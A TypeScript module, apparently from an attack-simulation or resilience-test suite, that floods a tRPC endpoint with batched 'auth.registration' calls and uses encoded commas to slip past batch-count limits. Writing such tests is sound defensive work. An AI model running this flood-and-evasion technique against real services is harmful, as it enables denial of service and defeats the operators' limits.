/** Hundreds of calls in one anonymous request, with commas that are written so that a count does not see them. */
import { nth, repeat, type Attack } from "./attack.ts";
import { send } from "./send.ts";

const everyMs = 500;
const atOnce = 4;
const calls = 780;
const commas = [",", "%2C", "%2c", "%252C"];

export const commaBatches: Attack = {
  name: "comma batches",
  run: ({ web }, _user, round) =>
    repeat(round, { everyMs, atOnce }, (turn) => {
      const path = Array<string>(calls).fill("auth.registration").join(nth(commas, turn));
      return send(`${web}/api/trpc/${path}?batch=1&input={}`, { method: "GET", from: turn, signal: round.signal });
    }),
};
